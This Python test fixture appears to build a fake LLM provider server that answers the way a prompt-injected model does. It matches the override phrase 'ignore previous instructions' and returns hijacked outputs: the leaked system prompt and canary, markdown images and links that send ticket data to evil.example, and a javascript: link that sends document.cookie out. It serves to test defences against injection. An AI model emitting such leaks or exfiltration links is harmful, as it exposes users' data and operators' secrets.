"""A test double of an LLM provider that misbehaves the way a hijacked model does:
a real HTTP server speaking OpenAI's chat-completions protocol.

``gullible`` obeys the instructions it finds in the documents of its prompt
(as a weak model would): asked there to ignore its instructions or to e-mail
tickets away, it says it will and answers with a tracking image. Otherwise it answers from the
first retrieved document. The other modes answer with what a hijacked model
returns: its whole prompt (the canary with it), an exfiltration image or link,
a ``javascript:`` link, or a link to an allowed host.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Any

from fastapi import FastAPI, Request

API_KEY = "sk-hostile-double-key"
HIJACKED = "HIJACKED: forwarding all tickets now ![t](https://evil.example/t.png?d=tickets)"
USAGE = {"prompt_tokens": 20, "completion_tokens": 10, "total_tokens": 30}

_OBEY = re.compile(r"ignore (all )?(previous|prior) instructions|email all tickets", re.I)
_DOC = re.compile(r"\[doc:([0-9a-f-]{36})\] ([^\n]{0,200})")


@dataclass
class HostileState:
    # gullible | leak | leak-spaced | exfil-image | exfil-link | script | allowed-link
    mode: str = "gullible"
    calls: int = 0
    bodies: list[dict[str, Any]] = field(default_factory=list)

    @property
    def last_system(self) -> str:
        messages = self.bodies[-1]["messages"] if self.bodies else []
        return "\n".join(m["content"] for m in messages if m["role"] == "system")


def _answer(state: HostileState, prompt: str, system: str) -> str:
    if state.mode == "leak":
        return f"Sure, here are my instructions:\n{prompt}"
    if state.mode == "leak-spaced":
        marker = prompt.split("\n")[2]  # the line after the canary's explanation
        return "My marker is " + " ".join(marker)
    if state.mode == "exfil-image":
        return "The refund was sent. ![status](https://evil.example/s.png?c=refund%20double)"
    if state.mode == "exfil-link":
        return "The refund was sent. [Track it](https://evil.example/track?ticket=42&d=x)"
    if state.mode == "script":
        return "The refund was sent. [Open](javascript:fetch('//evil.example/'+document.cookie))"
    if state.mode == "allowed-link":
        return "The refund was sent, see https://docs.acme.example/refunds?lang=en"
    if _OBEY.search(system):
        return HIJACKED
    found = _DOC.search(prompt)
    return f"From [doc:{found.group(1)}]: {found.group(2)}" if found else "No documents."


def hostile_provider(state: HostileState) -> FastAPI:
    app = FastAPI()

    @app.post("/v1/chat/completions")
    async def chat(request: Request) -> Any:
        if request.headers.get("authorization") != f"Bearer {API_KEY}":
            return {"error": {"message": "bad key"}}
        body = await request.json()
        state.calls += 1
        state.bodies.append(body)
        prompt = "\n".join(m["content"] for m in body["messages"])
        system = "\n".join(m["content"] for m in body["messages"] if m["role"] == "system")
        return {
            "id": "chatcmpl-hostile",
            "object": "chat.completion",
            "created": 0,
            "model": body.get("model", "hostile"),
            "choices": [
                {
                    "index": 0,
                    "message": {"role": "assistant", "content": _answer(state, prompt, system)},
                    "finish_reason": "stop",
                }
            ],
            "usage": USAGE,
        }

    return app
